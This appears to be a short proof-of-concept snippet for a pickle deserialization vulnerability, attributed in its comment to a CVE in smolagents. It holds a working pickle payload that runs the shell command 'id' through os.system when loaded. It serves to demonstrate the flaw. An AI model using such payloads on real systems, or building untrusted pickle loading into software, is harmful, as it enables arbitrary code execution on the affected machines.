# Source: smolagents CVE-2025-14931 (ZDI, untrusted pickle data -> RCE)
import pickle
pickle.loads(b"cos\nsystem\n(S'id'\ntR.")
